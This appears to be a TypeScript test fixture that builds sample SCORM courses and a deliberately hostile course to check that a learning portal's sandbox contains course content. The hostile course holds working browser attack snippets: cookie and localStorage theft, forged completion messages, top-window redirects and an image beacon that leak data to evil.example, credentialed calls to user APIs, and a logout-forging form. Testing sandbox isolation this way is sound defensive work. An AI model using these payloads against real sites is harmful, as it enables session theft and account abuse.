import type { ScormVersion } from '@portal/contract';

/** How a course of the version looks for its run time, as the standard's own sample does: through the windows around it. */
const find: Readonly<Record<ScormVersion, string>> = {
  '1.2': `function find(w) { var n = 0; while (w.API == null && w.parent != null && w.parent != w && n++ < 7) w = w.parent; return w.API; }
    var api = find(window), read = function (e) { return api.LMSGetValue('cmi.core.' + e); },
    write = function (e, v) { return api.LMSSetValue(e.indexOf('cmi.') === 0 ? e : 'cmi.core.' + e, v); },
    begin = function () { return api.LMSInitialize(''); }, end = function () { return api.LMSFinish(''); };
    var place = 'lesson_location', entry = 'entry';`,
  '2004': `function find(w) { while (w.API_1484_11 == null && w.parent != null && w.parent != w) w = w.parent; return w.API_1484_11; }
    var api = window.parent != window ? find(window.parent) : null, read = function (e) { return api.GetValue('cmi.' + e); },
    write = function (e, v) { return api.SetValue(e.indexOf('cmi.') === 0 ? e : 'cmi.' + e, v); },
    begin = function () { return api.Initialize(''); }, end = function () { return api.Terminate(''); };
    var place = 'location', entry = 'entry';`,
};
const status: Readonly<Record<ScormVersion, string>> = {
  '1.2': `write('score.raw', String(points)); write('lesson_status', points >= 80 ? 'passed' : 'failed');`,
  '2004': `write('score.scaled', String(points / 100)); write('completion_status', 'completed'); write('success_status', points >= 80 ? 'passed' : 'failed');`,
};

/**
 * A course of four pages in a frame inside its own; the last one asks a question whose result it hands to the page around it, which reports
 * it. It goes on at the page where it was left.
 */
export const runnableFiles = (version: ScormVersion): Record<string, string> => ({
  'shared/run-time.js': find[version],
  'index.html': `<!doctype html><html><head><meta charset="utf-8"><title>Course</title><script src="shared/run-time.js"></script></head>
    <body onload="start()"><p id="where"></p><iframe id="page" width="90%" height="300"></iframe>
    <button onclick="show(page + 1)">Next page</button><button onclick="leave()">Leave the course</button><script>
      var page = 0;
      function start() { begin(); page = Number(read(place) || 1); document.getElementById('where').textContent = 'Entry: ' + read(entry); show(page); }
      function show(n) { page = n; write(place, String(n)); document.getElementById('page').src = 'pages/page.html?n=' + n; }
      function recordPoints(points) { ${status[version]} document.getElementById('where').textContent = 'Points: ' + points; }
      function leave() { end(); }
    </script></body></html>`,
  'pages/page.html': `<!doctype html><html><head><script src="../shared/run-time.js"></script></head><body><script>
      var n = location.search.slice(3);
      document.write('<h2>Page ' + n + '</h2><p id="level">' + read(place) + '</p>');
      if (n === '4') document.write('<button onclick="parent.recordPoints(90)">Answer</button>');
    </script></body></html>`,
});

/** What a course tries that means no good, each by its name; what comes of it is saved and shown. */
const attempts: Readonly<Record<string, string>> = {
  cookie: `return document.cookie`,
  storage: `localStorage.setItem('mine', 'x'); return localStorage.length + ' ' + localStorage.getItem('portal.secret')`,
  nativeStorage: `var f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.localStorage.length`,
  nativeCookie: `return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)`,
  topDocument: `return window.top.document.title`,
  topForged: `window.top.postMessage({ scorm: 'set', element: 'cmi.core.lesson_status', value: 'passed' }, '*'); return 'sent'`,
  topVariable: `return String(window.top.localStorage)`,
  topAway: `window.top.location.href = 'https://evil.example/'; return 'gone'`,
  topReplace: `window.top.location.replace('https://evil.example/'); return 'gone'`,
  popup: `return String(window.open(portal + '/dashboard'))`,
  callWithCookie: `return fetch(portal + '/api/User/getUserInfo', { credentials: 'include' }).then(function (a) { return a.text(); })`,
  callPlain: `return fetch(portal + '/api/User/getUserInfo', { mode: 'no-cors' }).then(function (a) { return a.text(); })`,
  otherCourse: `return fetch('/course/other/index.html').then(function (a) { return String(a.status); })`,
  request: `return new Promise(function (done, no) { var x = new XMLHttpRequest(); x.open('POST', portal + '/api/User/UpdateSettings'); x.withCredentials = true;
    x.onload = function () { done(x.responseText); }; x.onerror = function () { no(new Error('blocked')); }; x.send('{}'); })`,
  beacon: `return new Promise(function (done, no) { var i = new Image(); i.onload = function () { done('loaded'); }; i.onerror = function () { no(new Error('blocked')); };
    i.src = 'https://evil.example/x.png?' + encodeURIComponent(location.href); })`,
  form: `var f = document.createElement('form'); f.method = 'post'; f.action = portal + '/api/User/userLogout'; f.target = 'inner'; document.body.append(f);
    f.submit(); return new Promise(function (done) { setTimeout(function () { done('sent'); }, 300); })`,
  portalInFrame: `var f = document.createElement('iframe'); f.src = portal + '/dashboard'; document.body.append(f);
    return new Promise(function (done) { setTimeout(function () { try { done(f.contentDocument ? f.contentDocument.title : 'shut'); } catch (e) { done('shut'); } }, 500); })`,
  image: `return new Promise(function (done, no) { var i = new Image(); i.onload = function () { done('loaded'); }; i.onerror = function () { no(new Error('blocked')); };
    i.src = portal + '/favicon.svg'; })`,
  peer: `return new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }).createOffer({ offerToReceiveAudio: true }).then(function () { return 'offered'; })`,
  worker: `return navigator.serviceWorker.register('evil.js').then(function () { return 'registered'; })`,
};

/** A course that tries to reach the session of its reader and the portal around it. */
export const hostileFiles = (): Record<string, string> => ({
  'evil.js': '',
  'index.html': `<!doctype html><html><head><meta charset="utf-8"></head><body><h1>Hostile</h1><iframe name="inner"></iframe><pre id="found"></pre><script>
      var portal = location.ancestorOrigins[location.ancestorOrigins.length - 1];
      var attempts = {${Object.entries(attempts)
        .map(([name, body]) => `${name}: function () { ${body} }`)
        .join(',\n')}};
      var API = window.parent.API;
      API.LMSInitialize('');
      var found = {}, names = Object.keys(attempts);
      (function next() {
        var name = names.shift();
        if (!name) { API.LMSSetValue('cmi.suspend_data', JSON.stringify(found)); API.LMSCommit(''); document.getElementById('found').textContent = 'all tried'; return; }
        Promise.resolve().then(attempts[name]).then(function (value) { found[name] = 'got ' + String(value).slice(0, 120); },
          function (error) { found[name] = 'failed ' + error.name; }).then(next);
      })();
    </script></body></html>`,
});
export const attemptNames: readonly string[] = Object.keys(attempts);

/** A unit of a course of several, with a button for each end that it can come to. It ends its session when its page goes. */
export function unitPage(version: ScormVersion, name: string): string {
  const is12 = version === '1.2';
  const [api, get, set, end] = is12
    ? ['API', 'LMSGetValue', 'LMSSetValue', 'LMSFinish']
    : ['API_1484_11', 'GetValue', 'SetValue', 'Terminate'];
  const say = is12
    ? `set('cmi.core.score.raw', word === 'passed' ? '90' : '40'); set('cmi.core.lesson_status', word);`
    : `set('cmi.score.scaled', word === 'passed' ? '0.9' : '0.4'); set('cmi.completion_status', 'completed'); set('cmi.success_status', word === 'completed' ? 'unknown' : word);`;
  return `<!doctype html><meta charset="utf-8"><h1>${name}</h1><p id="entry"></p>
    <button onclick="end('completed')">completed</button><button onclick="end('passed')">passed</button><button onclick="end('failed')">failed</button>
    <button onclick="end('passed'); ${is12 ? '' : `set('adl.nav.request', 'continue');`} leave()">go on</button>
    <script>
      var api = parent.${api};
      var get = function (name) { return api.${get}(name); };
      var set = function (name, value) { return api.${set}(name, value); };
      var leave = function () { api.${end}(''); };
      api.${is12 ? 'LMSInitialize' : 'Initialize'}('');
      var visits = Number(get('cmi.suspend_data') || 0) + 1;
      set('cmi.suspend_data', String(visits));
      document.getElementById('entry').textContent = 'Entry: ' + get('${is12 ? 'cmi.core.entry' : 'cmi.entry'}') + ', visits: ' + visits;
      function end(word) { if (word === 'completed') { set('${is12 ? 'cmi.core.lesson_status' : 'cmi.completion_status'}', 'completed'); } else { ${say} } api.${is12 ? 'LMSCommit' : 'Commit'}(''); }
      window.addEventListener('pagehide', leave);
    </script>`;
}
